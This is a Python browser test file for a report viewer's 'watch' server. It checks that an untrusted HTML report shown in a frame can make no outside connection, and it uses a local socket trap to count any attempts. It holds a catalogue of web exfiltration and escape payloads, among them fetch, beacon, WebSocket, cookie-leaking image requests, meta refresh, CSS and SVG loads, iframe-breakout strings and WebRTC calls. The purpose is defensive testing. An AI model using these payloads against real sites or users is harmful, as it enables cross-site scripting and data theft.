"""A stranger's report in `watch`: whatever it tries, nobody but the server hears of it. A trap counts who connects."""

import re
import socket
import threading
from contextlib import contextmanager
from dataclasses import replace

import pytest

from tests.browser.test_offline_pages import page_of
from tests.browser.test_watch_page import serving
from tests.patience import wait_until
from tests.watch.made_runs import make_run
from yolofast.commands.watch import address_of
from yolofast.pages.elements import Section
from yolofast.pages.html import render_page
from yolofast.watch import server
from yolofast.watch.report_frame import report_headers

pytestmark = pytest.mark.slow

SCRIPTS = {
    "location": "location = 'URL'",
    "replace": "location.replace('URL')",
    "top": "top.location = 'URL'",
    "parent": "parent.location = 'URL'",
    "click": "const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); a.click()",
    "new tab": "const a = document.createElement('a'); a.href = 'URL'; a.target = '_blank'; a.click()",
    "download": "const a = document.createElement('a'); a.href = 'URL'; a.download = 'x'; a.click()",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'URL'; a.click()",
    "fetch": "fetch('URL', {mode: 'no-cors'})",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'URL'); r.send()",
    "image": "new Image().src = 'URL'",
    "form": "const f = document.createElement('form'); f.action = 'URL'; document.body.append(f); f.submit()",
    "popup": "window.open('URL')",
    "frame": "const f = document.createElement('iframe'); f.src = 'URL'; document.body.append(f)",
    "script": "const s = document.createElement('script'); s.src = 'URL'; document.body.append(s)",
    "module": "import('URL')",
    "socket": "new WebSocket('URL'.replace('http', 'ws'))",
    "events": "new EventSource('URL')",
    "beacon": "navigator.sendBeacon('URL', 'x')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('URL')\"])))",
    "service worker": "navigator.serviceWorker.register('URL')",
    "cookie": "document.cookie = 'a=b'; new Image().src = 'URL?' + document.cookie",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({prefetch: [{source: 'list', urls: ['URL']}]}); document.head.append(s)",
    "preconnect": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL'; "
    "document.head.append(l)",
    "alert": "alert(1)",
    "call": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); c.createDataChannel('x'); "
    "c.createOffer().then((offer) => c.setLocalDescription(offer))",
}  # fmt: skip
MARKUP = {
    "refresh": '<meta http-equiv="refresh" content="0; url=URL">',
    "rules": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["URL"], '
    '"eagerness": "immediate"}], "prerender": [{"source": "list", "urls": ["URL"]}]}</script>',
    "style": '<style>@import "URL"; body { background: url(URL) } @font-face { font-family: x; src: url(URL) } '
    "* { font-family: x; cursor: url(URL), auto }</style><p>text</p>",
    "sheet": '<link rel="stylesheet" href="URL">',
    "hints": '<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL"><link rel="prefetch" href="URL">'
    '<link rel="preload" as="image" href="URL"><link rel="modulepreload" href="URL"><link rel="prerender" href="URL">'
    '<link rel="icon" href="URL"><link rel="manifest" href="URL">',
    "hints within": '<iframe srcdoc="&lt;link rel=preconnect href=URL&gt;"></iframe>',
    "media": '<img src="URL"><video src="URL" poster="URL" autoplay></video><audio src="URL" autoplay></audio>',
    "drawing": '<svg><image href="URL"/><use href="URL#x"/><script href="URL"></script></svg>',
    "frames": '<iframe src="URL"></iframe><object data="URL"></object><embed src="URL"><portal src="URL"></portal>',
    "frame page": '<frameset><frame src="URL"></frameset>',
    "base": '<base href="URL"><img src="x.png"><a href="y" id="a">a</a>',
    "form in markup": '<form action="URL"><input name="q" autofocus onfocus="this.form.submit()"></form>',
    "shadow": '<div><template shadowrootmode="open"><link rel="stylesheet" href="URL"><style>@import "URL"</style>'
    '<img srcset="URL 1x"><video><track src="URL" default></video></template></div>',
    "animated": '<svg><a><text y="9">go</text><animate attributeName="href" values="URL" fill="freeze"/></a>'
    '<image><set attributeName="href" to="URL"/></image><filter id="f"><feImage href="URL"/></filter>'
    '<rect width="9" height="9" filter="url(#f)" fill="url(URL#x)" style="mask: url(URL#y)"/></svg>',
    "odd names": '<li\0nk rel=preconnect hr\0ef=URL><l\u0131nk rel=preconnect href="URL"><meta content="0;url=URL" '
    'http-equiv\n=\nrefresh><META HTTP-EQUIV=Link CONTENT="<URL>; rel=preconnect"><body background="URL">',
    "closing the frame": '"></iframe><meta http-equiv=refresh content="0;url=URL"><img src=URL><iframe srcdoc="',
    "attribute": "<img src=x onerror=\"location = 'URL'\"><body onload=\"location = 'URL'\">",
}


class Trap:
    """Counts connections and packets that arrive at its port."""

    def __init__(self) -> None:
        self.caught = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for wait in (self._accept, self._receive):
            threading.Thread(target=wait, daemon=True).start()

    def _accept(self) -> None:
        try:
            while True:
                one, _ = self._tcp.accept()
                one.settimeout(0.2)
                try:
                    self.caught.append(one.recv(1000).decode("latin-1").split("\r\n")[0] or "connection")
                except OSError:
                    self.caught.append("connection")
                one.close()
        except OSError:
            pass

    def _receive(self) -> None:
        try:
            while True:
                self._udp.recv(1000)
                self.caught.append("packet")
        except OSError:
            pass

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@contextmanager
def trapped():
    trap = Trap()
    try:
        yield trap
    finally:
        trap.close()


def aimed(payload, trap, name):
    host = f"127.0.0.1:{trap.port}"
    return re.sub(r"URL(?!\.)", f"http://{host}/{name.replace(' ', '-')}", payload.replace("HOST", host))


def made(payload, trap, name="payload"):
    body = aimed(payload, trap, name)
    return f"<!DOCTYPE html><meta charset=utf-8><title>report</title><body><p>report</p>{body}"


def write(root, trap, payloads):
    """The names of runs, each with one of the payloads."""
    names = {name.replace(" ", "-"): payload for name, payload in payloads.items()}
    for name, payload in names.items():
        (make_run(root / name) / "report.html").write_text(made(payload, trap, name))
    return list(names)


def scripts(*names):
    return {name: f"<script>{SCRIPTS[name]}</script>" for name in names}


def report_address(watch, name):
    return f"{address_of(watch)}file?id={name}&name=report.html"


def tried(browser, watch, names):
    """All in one browser at once. Waits for a second after the last: what does not come by then would have to wait."""
    context = browser.new_context()
    dialogs = []
    context.on("dialog", lambda dialog: dialogs.append(dialog.dismiss()))
    for name in names:
        context.new_page().goto(report_address(watch, name), wait_until="commit")
    context.pages[-1].wait_for_timeout(1e3)
    addresses = [page.url for page in context.pages]
    context.close()
    assert dialogs == [] and addresses == [report_address(watch, name) for name in names], "no page went elsewhere"


def test_nothing_leaves(tmp_path, browser):
    """No script runs, so all are in one report: pages take long. What is caught says whose address it is."""
    with trapped() as trap, serving(tmp_path) as watch:
        all_scripts = "".join(aimed(script, trap, name) for name, script in scripts(*SCRIPTS).items())
        tried(browser, watch, write(tmp_path, trap, {**MARKUP, "scripts": all_scripts}))
        assert trap.caught == []


def test_the_frame_alone_would_stop_requests(tmp_path, browser, monkeypatch):
    """If a stranger's scripts ran: connections that say nothing, and packets of calls, but no request."""
    headers, key = dict(report_headers()), "Content-Security-Policy"
    headers[key] = re.sub(r"script-src [^;]*", "script-src 'unsafe-inline'", headers[key])
    monkeypatch.setattr(server, "report_headers", lambda: headers)
    with trapped() as trap, serving(tmp_path) as watch:
        some = ("location", "top", "click", "download", "fetch", "popup", "speculation", "call")
        tried(browser, watch, write(tmp_path, trap, scripts(*some)))
        assert set(trap.caught) <= {"connection", "packet"}


def test_the_trap_catches(browser):
    with trapped() as trap:
        page = browser.new_page()
        page.set_content(made(f"<script>{SCRIPTS['fetch']}; {SCRIPTS['call']}</script>", trap))
        wait_until(lambda: {"GET /payload HTTP/1.1", "packet"} <= set(trap.caught))
        page.close()


def test_a_link_that_is_clicked_goes_nowhere(tmp_path, browser):
    with trapped() as trap, serving(tmp_path) as watch:
        links = [
            "<a href='URL'>one</a>",
            "<A\nHREF = URL>two</A>",
            "<svg><a xlink:href='URL'><text y=9>three</text></a></svg>",
            "<a href='URL' target=_blank>four</a>",
            "<a href=' #x' href='URL'>five</a>",
        ]
        (make_run(tmp_path / "run") / "report.html").write_text(made(" ".join(links), trap))
        page = browser.new_page()
        page.goto(report_address(watch, "run"))
        frame = page.frame_locator("iframe")
        for word in ("one", "two", "three", "four", "five"):
            frame.get_by_text(word, exact=True).click()
        page.wait_for_timeout(300)
        assert trap.caught == [] and page.url == report_address(watch, "run") and len(page.context.pages) == 1
        page.close()


def test_an_own_report_works_within(tmp_path, watched):
    content = page_of("the run")
    many = replace(content, sections=(*content.sections, *(Section(f"more {i}", ()) for i in range(5))))
    (make_run(tmp_path / "run") / "report.html").write_text(render_page(many), encoding="utf-8")
    with serving(tmp_path) as watch:
        page = watched().page
        page.goto(report_address(watch, "run"))
        frame = page.frame_locator("iframe")
        lines = frame.locator("path.yf-line[data-points]")
        lines.first.wait_for()
        assert lines.count() == 2 and frame.locator("circle.yf-point").count() == 3 and page.locator("p").count() == 0
        assert frame.locator(".picture img").evaluate("image => image.naturalWidth") == 30
        frame.get_by_role("button", name="the run 1", exact=True).click()
        assert lines.count() == 1
        frame.locator("button.copy").click()
        frame.get_by_role("button", name="copied").wait_for()
        colour = "() => getComputedStyle(document.body).backgroundColor"
        before = frame.locator("body").evaluate(colour)
        frame.locator("#theme").click()
        assert frame.locator("body").evaluate(colour) != before
        frame.locator(".contents a").last.click()
        assert frame.locator("main").evaluate("() => location.hash") == "#s7-more-4" and page.title() == "run"


def test_a_report_with_other_scripts_says_that_they_do_not_run(tmp_path, watched):
    (make_run(tmp_path / "run") / "report.html").write_text("<p>figures</p><script>document.title = 1</script>")
    with serving(tmp_path) as watch:
        one = watched()
        one.page.goto(report_address(watch, "run"))
        assert "charts are not drawn" in one.page.locator("p").inner_text()
        assert one.page.frame_locator("iframe").locator("p").inner_text() == "figures"
        assert all("Content Security Policy" in error for error in one.errors)
        one.errors.clear()
